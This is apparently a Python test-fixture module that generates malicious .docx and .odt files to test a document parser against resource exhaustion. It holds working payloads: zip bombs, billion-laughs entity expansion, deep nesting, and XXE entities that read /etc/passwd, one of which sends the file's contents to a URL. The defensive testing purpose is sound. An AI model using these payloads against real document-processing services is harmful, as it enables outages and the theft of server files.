"""Word and OpenDocument files that want much memory, time or depth, or want out."""

from __future__ import annotations

import struct
import zlib
from typing import Final

from tests.documents.hostile_parts import bombs_in, docx, odt, package, word_document

_RELATION: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_ENTITIES: Final = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaaaaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + at)} "{f"&{chr(97 + at)};" * 10}">' for at in range(9))
    + '<!ENTITY out SYSTEM "file:///etc/passwd">]>'
)


def overlapping__docx() -> bytes:
    """4 KB whose directory names one packed megabyte 60 times: 100 MB."""
    packed = zlib.compress(bytes(1_700_000), 9)[2:-4]
    crc = zlib.crc32(bytes(1_700_000))
    header = struct.pack(
        "<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(packed), 1_700_000, 1, 0
    )
    directory = b"".join(
        struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, len(packed), 1_700_000,
            len(name), 0, 0, 0, 0, 0, 0,
        ) + name
        for name in [b"word/document.xml", *(b"%d" % at for at in range(59))]
    )  # fmt: skip
    end = struct.pack(
        "<4sHHHHIIH", b"PK\5\6", 0, 0, 60, 60, len(directory), len(header) + 1 + len(packed), 0
    )
    return header + b"a" + packed + directory + end


def much_space__docx() -> bytes:
    return docx("<w:p>" + " " * 200_000_000 + "</w:p>", level=1)


def twelve_million_paragraphs__docx() -> bytes:
    """104 KB that cost python-docx 2.6 GB: all those elements become objects."""
    return docx("<w:p/>" * 11_900_000)


def many_parts__docx() -> bytes:
    return package({f"word/header{number}.xml": b"<x/>" for number in range(20_000)})


def entities__docx() -> bytes:
    return docx("<w:p><w:r><w:t>&j;&out;</w:t></w:r></w:p>", _ENTITIES)


def deep__docx() -> bytes:
    return docx("<w:sdt><w:sdtContent>" * 1_000_000)


def wide_table__docx() -> bytes:
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr><w:p/></w:tc>'
    return docx(f"<w:tbl><w:tr>{cell * 1000}</w:tr></w:tbl>")


def itself__docx() -> bytes:
    """A document that includes a document that includes one and so on."""
    inner = docx("<w:p><w:r><w:t>inside</w:t></w:r></w:p>")
    for _ in range(30):
        relations = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r1" Type="{_RELATION}/aFChunk" Target="inner.docx"/>'
            "</Relationships>"
        )
        body = f'<w:altChunk xmlns:r="{_RELATION}" r:id="r1"/>' * 20
        inner = package(
            {
                "word/document.xml": word_document(body),
                "word/_rels/document.xml.rels": relations.encode(),
                "word/inner.docx": inner,
            }
        )
    return inner


def entities__odt() -> bytes:
    return odt("<text:p>&j;&out;</text:p>", _ENTITIES)


def a_milliard_spaces__odt() -> bytes:
    return odt('<text:p>a<text:s text:c="1000000000"/>b</text:p>' * 100)


def repeated_table__odt() -> bytes:
    cell = (
        '<table:table-cell table:number-columns-repeated="1000000000"><text:p>x</text:p>'
        "</table:table-cell>"
    )
    row = f'<table:table-row table:number-rows-repeated="1000000000">{cell}</table:table-row>'
    return odt(f"<table:table>{row}</table:table>")


def deep__odt() -> bytes:
    return odt("<text:section>" * 500_000)


def one_long_entity__docx() -> bytes:
    """Quadratic: one entity of 100 KB, named 50,000 times."""
    entity = f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>'
    return docx(f"<w:p><w:r><w:t>{'&a;' * 50_000}</w:t></w:r></w:p>", entity)


def entities_of_the_document_type__docx() -> bytes:
    """Entities that make entities, one of them from a file of this machine."""
    made = (
        '<!DOCTYPE x [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % all "<!ENTITY send'
        " SYSTEM 'http://localhost:9/?%file;'>\">%all;]>"
    )
    return docx("<w:p><w:r><w:t>&send;</w:t></w:r></w:p>", made)


def many_attributes__docx() -> bytes:
    attributes = " ".join(f'a{number}="x"' for number in range(200_000))
    return docx(f"<w:p {attributes}><w:r><w:t>words</w:t></w:r></w:p>")


def one_word__docx() -> bytes:
    """A paragraph of 30 million letters: more text than a document may have."""
    return docx(f"<w:p><w:r><w:t>{'word ' * 6_000_000}</w:t></w:r></w:p>")


def numbering_without_end__docx() -> bytes:
    """Lists whose styles are based on each other, in a circle."""
    word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{at}"><w:basedOn w:val="s{(at + 1) % 3000}"/>'
        f'<w:pPr><w:numPr><w:numId w:val="{at}"/></w:numPr></w:pPr></w:style>'
        for at in range(3000)
    )
    body = '<w:p><w:pPr><w:pStyle w:val="s1"/></w:pPr><w:r><w:t>words</w:t></w:r></w:p>' * 2000
    return package(
        {
            "word/document.xml": word_document(body),
            "word/styles.xml": f"<w:styles {word}>{styles}</w:styles>".encode(),
        }
    )


def sizes_are_lies__docx() -> bytes:
    """A zip64 directory that states sizes and places far outside the file."""
    sound = bytearray(docx("<w:p><w:r><w:t>words</w:t></w:r></w:p>"))
    at = sound.rindex(b"PK\1\2")
    struct.pack_into("<II", sound, at + 20, 0xFFFFFFFF, 0xFFFFFFFF)
    extra = struct.pack("<HHQQ", 1, 16, 1 << 62, 1 << 62)
    struct.pack_into("<H", sound, at + 30, len(extra))
    name = at + 46 + struct.unpack_from("<H", sound, at + 28)[0]
    sound[name:name] = extra
    end = sound.rindex(b"PK\5\6")
    struct.pack_into("<I", sound, end + 12, end - at)
    return bytes(sound)


def styles_in_a_circle__odt() -> bytes:
    styles = "".join(
        f'<style:style style:name="s{at}" style:parent-style-name="s{(at + 1) % 2000}"/>'
        for at in range(2000)
    )
    body = '<text:p text:style-name="s1">words</text:p>' * 5000
    return odt(f"<office:automatic-styles>{styles}</office:automatic-styles>{body}")


def iterations__odt() -> bytes:
    """An encrypted part whose key takes two milliards of rounds."""
    space = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    manifest = (
        f'<m:manifest xmlns:m="{space}"><m:file-entry m:full-path="content.xml" m:size="10">'
        '<m:encryption-data m:checksum-type="SHA1/1K" m:checksum="AAAA">'
        '<m:algorithm m:algorithm-name="http://www.w3.org/2001/04/xmlenc#aes256-cbc" '
        'm:initialisation-vector="AAAAAAAAAAAAAAAAAAAAAA=="/><m:start-key-generation '
        'm:start-key-generation-name="http://www.w3.org/2000/09/xmldsig#sha256" m:key-size="32"/>'
        '<m:key-derivation m:key-derivation-name="PBKDF2" m:iteration-count="2147483647" '
        'm:salt="AAAAAAAAAAAAAAAAAAAAAA==" m:key-size="32"/></m:encryption-data></m:file-entry>'
        "</m:manifest>"
    )
    parts = {"mimetype": b"application/vnd.oasis.opendocument.text"}
    parts |= {"META-INF/manifest.xml": manifest.encode(), "content.xml": bytes(1600)}
    return package(parts)


OFFICE_BOMBS: Final = bombs_in(vars())
